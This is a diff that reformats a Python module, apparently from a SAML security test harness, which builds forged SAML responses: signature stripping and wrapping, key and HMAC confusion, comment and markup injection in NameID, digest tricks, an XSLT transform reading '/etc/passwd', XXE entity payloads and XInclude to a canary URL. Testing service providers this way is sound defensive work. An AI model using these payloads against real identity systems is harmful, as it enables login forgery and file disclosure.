@@ -64,8 +64,7 @@ def _name_id(doc: Document) -> Node:
     return _assertion(doc).find((NS.SAML, "Subject"), (NS.SAML, "NameID"))
 
 
-def _built(w: Workshop, attack: Attack, document: bytes,
-           seen: Identity | None = None) -> Built:
+def _built(w: Workshop, attack: Attack, document: bytes, seen: Identity | None = None) -> Built:
     return Built(documents=(document,), seen_if_accepted=seen or w.seen(attack))
 
 
@@ -89,8 +88,12 @@ def assertion_digest(document: bytes) -> bytes:
 # --- signature exclusion --------------------------------------------------------------------
 
 
-@builder("strip-all-signatures", "strip-assertion-signature", "strip-response-signature",
-         "strip-assertion-signature-keep-response")
+@builder(
+    "strip-all-signatures",
+    "strip-assertion-signature",
+    "strip-response-signature",
+    "strip-assertion-signature-keep-response",
+)
 def strip(w: Workshop, attack: Attack) -> Built:
     """Remove signatures as the id says and put the evil values in."""
     doc = w.baseline(attack.layout)
@@ -119,8 +122,12 @@ def hollow_signature(w: Workshop, attack: Attack) -> Built:
 # --- key confusion --------------------------------------------------------------------------
 
 
-@builder("key-attacker-certificate", "key-cloned-certificate", "key-claims-pinned-certificate",
-         "key-value-injected")
+@builder(
+    "key-attacker-certificate",
+    "key-cloned-certificate",
+    "key-claims-pinned-certificate",
+    "key-value-injected",
+)
 def foreign_key(w: Workshop, attack: Attack) -> Built:
     """Sign the evil assertion with a key no SP trusts, presenting it as the id says."""
     key = w.attacker_key
@@ -130,14 +137,16 @@ def foreign_key(w: Workshop, attack: Attack) -> Built:
         key = cloned_key(w.idp.signing_key, key)
     doc = w.issue("assertion", evil=True, key=key)
     x509_data = _signature(_assertion(doc)).find((NS.DS, "KeyInfo"), (NS.DS, "X509Data"))
-    pinned = wrap(w.idp.signing_key.cert_base64.encode(),
-                  (b"<ds:X509Certificate>", b"</ds:X509Certificate>"))
+    pinned = wrap(
+        w.idp.signing_key.cert_base64.encode(), (b"<ds:X509Certificate>", b"</ds:X509Certificate>")
+    )
     if attack.id == "key-claims-pinned-certificate":
         return _built(w, attack, doc.render([set_text(x509_data, pinned)]))
     if attack.id == "key-value-injected":
         key_value = _rsa_key_value(key.cert_pem)
-        return _built(w, attack, doc.render([before(x509_data, key_value),
-                                             set_text(x509_data, pinned)]))
+        return _built(
+            w, attack, doc.render([before(x509_data, key_value), set_text(x509_data, pinned)])
+        )
     return _built(w, attack, doc.data)
 
 
@@ -152,9 +161,13 @@ def _rsa_key_value(cert_pem: bytes) -> bytes:
     def b64(number: int) -> bytes:
         return base64.b64encode(number.to_bytes((number.bit_length() + 7) // 8, "big"))
 
-    return (b"<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>" + b64(numbers.n) +
-            b"</ds:Modulus><ds:Exponent>" + b64(numbers.e) +
-            b"</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>")
+    return (
+        b"<ds:KeyValue><ds:RSAKeyValue><ds:Modulus>"
+        + b64(numbers.n)
+        + b"</ds:Modulus><ds:Exponent>"
+        + b64(numbers.e)
+        + b"</ds:Exponent></ds:RSAKeyValue></ds:KeyValue>"
+    )
 
 
 @builder("key-hmac-with-public-certificate", "key-hmac-truncated")
@@ -165,15 +178,20 @@ def hmac_confusion(w: Workshop, attack: Attack) -> Built:
     def sign_hmac(response: etree._Element) -> None:
         assertion = response.find(qname(NS.SAML, "Assertion"))
         assert assertion is not None  # noqa: S101 - checked by Workshop
-        signature = xmlsec.template.create(assertion, xmlsec.constants.TransformExclC14N,
-                                           xmlsec.constants.TransformHmacSha256, ns="ds")
+        signature = xmlsec.template.create(
+            assertion,
+            xmlsec.constants.TransformExclC14N,
+            xmlsec.constants.TransformHmacSha256,
+            ns="ds",
+        )
         issuer = assertion.find(qname(NS.SAML, "Issuer"))
         if issuer is not None:
             issuer.addnext(signature)
         else:
             assertion.insert(0, signature)
         reference = xmlsec.template.add_reference(
-            signature, xmlsec.constants.TransformSha256, uri=f"#{assertion.get('ID')}")
+            signature, xmlsec.constants.TransformSha256, uri=f"#{assertion.get('ID')}"
+        )
         xmlsec.template.add_transform(reference, xmlsec.constants.TransformEnveloped)
         xmlsec.template.add_transform(reference, xmlsec.constants.TransformExclC14N)
         xmlsec.tree.add_ids(assertion, ["ID"])
@@ -183,11 +201,12 @@ def hmac_confusion(w: Workshop, attack: Attack) -> Built:
 
     doc = w.issue("assertion", evil=True, signer=sign_hmac)
     if attack.id == "key-hmac-truncated":
-        method = _signature(_assertion(doc)).find((NS.DS, "SignedInfo"),
-                                                  (NS.DS, "SignatureMethod"))
-        truncated = b'<ds:SignatureMethod Algorithm="' + doc.attribute(
-            method, "Algorithm").encode() + (
-            b'"><ds:HMACOutputLength>40</ds:HMACOutputLength></ds:SignatureMethod>')
+        method = _signature(_assertion(doc)).find((NS.DS, "SignedInfo"), (NS.DS, "SignatureMethod"))
+        truncated = (
+            b'<ds:SignatureMethod Algorithm="'
+            + doc.attribute(method, "Algorithm").encode()
+            + (b'"><ds:HMACOutputLength>40</ds:HMACOutputLength></ds:SignatureMethod>')
+        )
         return _built(w, attack, doc.render([replace(method, truncated)]))
     return _built(w, attack, doc.data)
 
@@ -220,8 +239,7 @@ def comment_in_role(w: Workshop, attack: Attack) -> Built:
     values = role_nodes(doc, _assertion(doc))
     if not values:
         raise GeneratorError("the user's response has no Role attribute to inject into")
-    return _built(w, attack, doc.render([insert_text(values[0], len(escape(pair)),
-                                                     b"<!---->")]))
+    return _built(w, attack, doc.render([insert_text(values[0], len(escape(pair)), b"<!---->")]))
 
 
 @builder("comment-in-audience")
@@ -238,8 +256,7 @@ def comment_in_audience(w: Workshop, attack: Attack) -> Built:
 
     doc = w.issue("assertion", evil=True, edit=audience)
     node = _assertion(doc).descendants(NS.SAML, "Audience")[0]
-    return _built(w, attack, doc.render([insert_text(node, len(escape(audiences[0])),
-                                                     b"<!---->")]))
+    return _built(w, attack, doc.render([insert_text(node, len(escape(audiences[0])), b"<!---->")]))
 
 
 @builder("cdata-in-name-id", "processing-instruction-in-name-id", "element-in-name-id")
@@ -249,8 +266,14 @@ def markup_in_name_id(w: Workshop, attack: Attack) -> Built:
     name_id = _name_id(doc)
     if attack.id == "cdata-in-name-id":
         seen = Identity(w.genuine.name_id + ".evil.invalid", w.genuine.role_pair)
-        return _built(w, attack, doc.render([append(name_id, b"<![CDATA[.evil.invalid]]>")],
-                                            ), seen)
+        return _built(
+            w,
+            attack,
+            doc.render(
+                [append(name_id, b"<![CDATA[.evil.invalid]]>")],
+            ),
+            seen,
+        )
     inserted = b"<?evil pi?>" if attack.id.startswith("processing") else b"<saml:Evil/>"
     offset = min(3, name_id.content_end - name_id.content_start)
     return _built(w, attack, doc.render([insert_text(name_id, offset, inserted)]))
@@ -263,8 +286,12 @@ def _evil_digest(w: Workshop, doc: Document) -> bytes:
     return assertion_digest(_evil(w, doc))
 
 
-@builder("comment-in-digest-value", "two-signedinfo", "signedinfo-wrapped-in-keyinfo",
-         "injected-digest-value")
+@builder(
+    "comment-in-digest-value",
+    "two-signedinfo",
+    "signedinfo-wrapped-in-keyinfo",
+    "injected-digest-value",
+)
 def digest_tricks(w: Workshop, attack: Attack) -> Built:
     """Offer the evil assertion's digest where a careless reader would pick it up."""
     doc = w.baseline("assertion")
@@ -277,13 +304,23 @@ def digest_tricks(w: Workshop, attack: Attack) -> Built:
         trick = insert_text(digest, 0, b"<!--" + evil_digest + b"-->")
     elif attack.id == "injected-digest-value":
         uri = b"#" + doc.attribute(assertion, "ID").encode()
-        reference = (b"<ds:Reference " + DS_DECLARATION + b' URI="' + uri +
-                     b'"><ds:DigestValue>' + evil_digest + b"</ds:DigestValue></ds:Reference>")
+        reference = (
+            b"<ds:Reference "
+            + DS_DECLARATION
+            + b' URI="'
+            + uri
+            + b'"><ds:DigestValue>'
+            + evil_digest
+            + b"</ds:DigestValue></ds:Reference>"
+        )
         trick = after(doc.root.find((NS.SAML, "Issuer")), wrap(reference, SAMLP_EXTENSIONS))
     else:
         forged = doc.render_node(signed_info, [set_text(digest, evil_digest)])
-        trick = (before(signed_info, forged) if attack.id == "two-signedinfo"
-                 else append(signature.find((NS.DS, "KeyInfo")), forged))
+        trick = (
+            before(signed_info, forged)
+            if attack.id == "two-signedinfo"
+            else append(signature.find((NS.DS, "KeyInfo")), forged)
+        )
     return _built(w, attack, _evil(w, doc, trick))
 
 
@@ -294,8 +331,10 @@ def void_canonicalization(w: Workshop, attack: Attack) -> Built:
     assertion = _assertion(doc)
     tag_end = assertion.start + len(b"<saml:Assertion")
     empty = base64.b64encode(hashlib.sha256(b"").digest())
-    edits = [Splice(tag_end, tag_end, ' xmlns:example="http://example.com\u0080"'.encode()),
-             set_text(_reference(assertion).find((NS.DS, "DigestValue")), empty)]
+    edits = [
+        Splice(tag_end, tag_end, ' xmlns:example="http://example.com\u0080"'.encode()),
+        set_text(_reference(assertion).find((NS.DS, "DigestValue")), empty),
+    ]
     return _built(w, attack, _evil(w, doc, *edits))
 
 
@@ -305,11 +344,15 @@ def method_swap(w: Workshop, attack: Attack) -> Built:
     doc = w.baseline("assertion")
     signed_info = _signature(_assertion(doc)).find((NS.DS, "SignedInfo"))
     target, uri = {
-        "c14n-with-comments": (signed_info.find((NS.DS, "CanonicalizationMethod")),
-                               C14N_WITH_COMMENTS),
+        "c14n-with-comments": (
+            signed_info.find((NS.DS, "CanonicalizationMethod")),
+            C14N_WITH_COMMENTS,
+        ),
         "c14n-inclusive": (signed_info.find((NS.DS, "CanonicalizationMethod")), C14N_INCLUSIVE),
-        "md5-digest-method": (signed_info.find((NS.DS, "Reference"), (NS.DS, "DigestMethod")),
-                              MD5_DIGEST),
+        "md5-digest-method": (
+            signed_info.find((NS.DS, "Reference"), (NS.DS, "DigestMethod")),
+            MD5_DIGEST,
+        ),
         "rsa-md5-signature-method": (signed_info.find((NS.DS, "SignatureMethod")), RSA_MD5),
     }[attack.id]
     return _built(w, attack, _evil(w, doc, set_attribute(target, "Algorithm", uri)))
@@ -321,13 +364,17 @@ def hostile_transform(w: Workshop, attack: Attack) -> Built:
     doc = w.baseline("assertion")
     transforms = _reference(_assertion(doc)).find((NS.DS, "Transforms")).children
     if attack.id == "transform-xslt":
-        stylesheet = (f'<ds:Transform Algorithm="{XSLT}"><xsl:stylesheet version="2.0" '
-                      'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
-                      "<xsl:value-of select=\"unparsed-text('/etc/passwd')\"/></xsl:template>"
-                      "</xsl:stylesheet></ds:Transform>").encode()
+        stylesheet = (
+            f'<ds:Transform Algorithm="{XSLT}"><xsl:stylesheet version="2.0" '
+            'xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">'
+            "<xsl:value-of select=\"unparsed-text('/etc/passwd')\"/></xsl:template>"
+            "</xsl:stylesheet></ds:Transform>"
+        ).encode()
         return _built(w, attack, doc.render([replace(transforms[-1], stylesheet)]))
-    xpath = (f'<ds:Transform Algorithm="{XPATH}"><ds:XPath>not(ancestor-or-self::ds:Signature)'
-             "</ds:XPath></ds:Transform>").encode()
+    xpath = (
+        f'<ds:Transform Algorithm="{XPATH}"><ds:XPath>not(ancestor-or-self::ds:Signature)'
+        "</ds:XPath></ds:Transform>"
+    ).encode()
     return _built(w, attack, doc.render([after(transforms[0], xpath)]))
 
 
@@ -350,8 +397,11 @@ def doctype_tricks(w: Workshop, attack: Attack) -> Built:
         doctype = b'<!DOCTYPE samlp:Response [<!ENTITY idViaEntity "' + response_id + b'">]>'
         edits = [set_attribute(doc.root, "ID", b"&idViaEntity;")]
     else:
-        doctype = (b'<!DOCTYPE samlp:Response [<!ATTLIST Signature xmlns CDATA #FIXED "'
-                   + str(NS.DS).encode() + b'">]>')
+        doctype = (
+            b'<!DOCTYPE samlp:Response [<!ATTLIST Signature xmlns CDATA #FIXED "'
+            + str(NS.DS).encode()
+            + b'">]>'
+        )
         edits = []
     return _built(w, attack, _with_doctype(_evil(w, doc, *edits), doctype))
 
@@ -364,13 +414,24 @@ def doctype_roundtrip(w: Workshop, attack: Attack) -> Built:
     end_tag = b"</" + doc.root.qname.encode() + b">"
     body = evil.partition(b"?>")[2].lstrip(b"\n")
     original = doc.bytes_of(doc.root)
-    crafted = (body[:-len(end_tag)] + b"<![CDATA[-->" + original + b"<!--]]>-->" + end_tag)
-    return _built(w, attack, _with_doctype(b"<?xml version='1.0' encoding='UTF-8'?>" + crafted,
-                                           b"<!DOCTYPE response SYSTEM 'x\"><!--'>"))
+    crafted = body[: -len(end_tag)] + b"<![CDATA[-->" + original + b"<!--]]>-->" + end_tag
+    return _built(
+        w,
+        attack,
+        _with_doctype(
+            b"<?xml version='1.0' encoding='UTF-8'?>" + crafted,
+            b"<!DOCTYPE response SYSTEM 'x\"><!--'>",
+        ),
+    )
 
 
-@builder("xxe-billion-laughs", "xxe-quadratic-blowup", "xxe-external-file",
-         "xxe-parameter-entity-oob", "xxe-external-dtd")
+@builder(
+    "xxe-billion-laughs",
+    "xxe-quadratic-blowup",
+    "xxe-external-file",
+    "xxe-parameter-entity-oob",
+    "xxe-external-dtd",
+)
 def entities(w: Workshop, attack: Attack) -> Built:
     """Prepend a hostile DOCTYPE and reference its entity in the NameID."""
     doc = w.baseline("assertion")
@@ -379,7 +440,8 @@ def entities(w: Workshop, attack: Attack) -> Built:
     reference: bytes | None = b"&x;"
     if attack.id == "xxe-billion-laughs":
         levels = [b'<!ENTITY l0 "lol">'] + [
-            b"<!ENTITY l%d \"%s\">" % (i, b"&l%d;" % (i - 1) * 10) for i in range(1, 10)]
+            b'<!ENTITY l%d "%s">' % (i, b"&l%d;" % (i - 1) * 10) for i in range(1, 10)
+        ]
         doctype = b"<!DOCTYPE samlp:Response [" + b"".join(levels) + b"]>"
         reference = b"&l9;"
     elif attack.id == "xxe-quadratic-blowup":
@@ -401,8 +463,11 @@ def entities(w: Workshop, attack: Attack) -> Built:
 def xinclude(w: Workshop, attack: Attack) -> Built:
     """Replace the NameID's text with an XInclude of the canary URL."""
     doc = w.baseline("assertion")
-    include = (b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="' +
-               f"{w.canary_url}/{attack.id}".encode() + b'" parse="text"/>')
+    include = (
+        b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="'
+        + f"{w.canary_url}/{attack.id}".encode()
+        + b'" parse="text"/>'
+    )
     return _built(w, attack, doc.render([set_text(_name_id(doc), include)]))
 
 
@@ -417,6 +482,8 @@ def oversized(w: Workshop, attack: Attack) -> Built:
         padding = b"<d>" * 5000 + b"</d>" * 5000
     else:
         padding = b"<pad>" + b"A" * 120_000 + b"</pad>"
-    return _built(w, attack, doc.render([after(doc.root.find((NS.SAML, "Issuer")),
-                                               wrap(padding, SAMLP_EXTENSIONS))]))
-
+    return _built(
+        w,
+        attack,
+        doc.render([after(doc.root.find((NS.SAML, "Issuer")), wrap(padding, SAMLP_EXTENSIONS))]),
+    )
